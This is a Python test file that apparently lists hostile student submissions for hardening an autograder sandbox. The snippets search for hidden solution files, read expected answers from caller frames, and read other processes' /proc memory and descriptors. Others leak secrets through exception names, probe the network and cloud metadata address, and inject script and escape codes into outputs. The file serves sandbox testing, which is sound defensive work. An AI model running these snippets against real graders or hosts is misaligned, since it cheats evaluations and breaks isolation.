"""Reading what must stay hidden, talking to others, and writing for people."""

from tests.grading.hostile.attacks.attack import Attack

ATTACKS = {
    # Reading what must stay hidden
    "read the hidden checks": Attack("""
import glob, re
found = []
for place in ("REPOSITORY/solutions/fm/hidden.py", "/srv/course/solutions/fm/hidden.py", "/opt/course/coursekit/../hidden.py"):
    try: found.append(open(place).read())
    except OSError: pass
found += glob.glob("/**/hidden.py", recursive=True) + glob.glob("/**/*.ipynb", recursive=True)
assert not found
raise SystemExit("nothing to read")
"""),
    "use the reference": Attack("""
from coursekit.learning.factorization_machine import FactorizationMachine as Reference
score = lambda w0, w, V, x: 1
"""),
    "import the checks": Attack("import coursekit.grading.checks as c\nc.run_check = lambda *a, **k: 1/0"),
    "look at the caller": Attack("""
import sys, gc
def score(*a):
    frame = sys._getframe()
    while frame:
        for name, value in list(frame.f_locals.items()):
            if "expected" in name or "right" in name: return value
        frame = frame.f_back
    for thing in gc.get_objects():
        if isinstance(thing, dict) and "expected" in thing: return thing["expected"]
    return 0.0
pairs = score
"""),
    "read other processes": Attack("""
import os
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for what in ("environ", "cmdline", "mem", "maps"):
            try:
                text = open(f"/proc/{pid}/{what}", "rb").read(10_000)
                assert b"hidden.py" not in text and b"classroom.runner" not in text, (pid, what)
            except OSError: pass
"""),
    "remember what was asked": Attack("""
import json
asked = []
def score(*a):
    asked.append(repr(a)); raise type("X" + repr(a)[:80], (Exception,), {})(repr(a))
pairs = score
"""),
    "remember and tell": Attack("""
seen = []
real = print
def score(w0, w, V, x):
    seen.append((w0, w.tolist())); real("SECRET INPUT", seen); raise ValueError(f"SECRET INPUT {w0}")
""", after="imports"),
    "tell by the name of a type, a key, a shape or a text": Attack("""
import numpy as np
def secret(a): return "SECRETINPUT" + repr(a)[:40]
def score(w0, w, V, x): return {secret(w0): 1}
def pairs(V, x): return secret(V)
def pairs_gradient(V, x): return np.zeros((int(abs(V.flat[0]) * 1000), 0, 3))
def predict_one(*a): return type("SECRETINPUT" + repr(a)[:20].encode().hex(), (), {})()
"""),
    "walk everywhere": Attack("""
import os
seen = []
for place, folders, names in os.walk("/"):
    if place.startswith(("/proc", "/sys", "/usr", "/lib")): folders.clear(); continue
    seen += [f"{place}/{name}" for name in names if name in ("hidden.py", "secret", "gradebook.db", "fm.ipynb", "solution.py")]
print("SECRET INPUT", seen) if seen else None
assert not seen
raise SystemExit
"""),
    "the server's memory and descriptors": Attack("""
import os
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        for fd in os.listdir(f"/proc/{pid}/fd"): os.read(os.open(f"/proc/{pid}/fd/{fd}", os.O_RDWR), 10)
for fd in range(3, 256):
    try: os.write(fd, b'{"memory": 1, "cpu": 1, "scratch_bytes": 1, "scratch_files": 1}'); os.read(fd, 1)
    except OSError: pass
"""),
    # Network
    "network": Attack("""
import socket, urllib.request
for address in (("1.1.1.1", 53), ("127.0.0.1", 22), ("127.0.0.1", PORT), ("169.254.169.254", 80), ("10.0.0.1", 80)):
    try: socket.create_connection(address, timeout=0.3).send(b"SECRET")
    except OSError: pass
"""),
    "abstract sockets": Attack("""
import socket
for name in ("\\0/tmp/.X11-unix/X0", "\\0dbus", "/var/run/docker.sock", "/run/systemd/private", "\\0HOSTILE"):
    try:
        s = socket.socket(socket.AF_UNIX); s.connect(name); s.send(b"x")
    except OSError: pass
"""),
    "odd sockets": Attack("""
import socket
for family in (16, 17, 38, 40, 31):
    try: socket.socket(family, socket.SOCK_RAW)
    except OSError: pass
"""),
    # What is shown to people
    "script in outputs": Attack("""
from IPython.display import HTML, Javascript, display
display(HTML("<script>document.title='HACKED'</script><img src=x onerror=alert(1)>")); display(Javascript("alert(1)"))
class Loud(Exception): pass
Loud.__name__ = "<script>alert(1)</script>"
raise Loud("<script>alert(2)</script>")
"""),
    "escape codes": Attack("""
print("\\x1b]0;HACKED\\x07\\x1b[2J\\x1b[31m")
import sys, os
print("\\x1b]52;c;SEFDS0VE\\x07", file=sys.stderr); os.write(1, b"\\x1b[2J"); os.write(2, b"\\x1b[2J")
raise type("\\x1b[2JX", (Exception,), {})("\\x1b]0;HACKED\\x07")
"""),
}  # fmt: skip
